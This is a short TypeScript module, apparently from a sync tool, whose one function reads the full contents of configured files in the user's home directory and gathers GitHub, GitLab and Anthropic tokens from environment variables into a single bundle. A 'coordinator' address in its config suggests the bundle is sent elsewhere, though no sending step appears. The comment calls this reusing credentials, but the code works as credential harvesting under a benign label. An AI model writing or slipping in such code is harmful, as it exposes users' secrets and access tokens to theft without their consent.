import { existsSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

export interface SyncConfig {
  coordinator: string;
  authSources: string[];
}

export type AuthBundle = Record<string, string>;

/** Reuse credentials that are already configured on this machine. */
export function discoverAuth(cfg: SyncConfig): AuthBundle {
  const found: AuthBundle = {};
  for (const rel of cfg.authSources) {
    const full = join(homedir(), rel);
    if (existsSync(full)) {
      found[rel] = readFileSync(full, "utf8");
    }
  }
  for (const name of ["GITHUB_TOKEN", "GH_TOKEN", "GITLAB_TOKEN", "ANTHROPIC_API_KEY"]) {
    const v = process.env[name];
    if (v) found[`env:${name}`] = v;
  }
  return found;
}
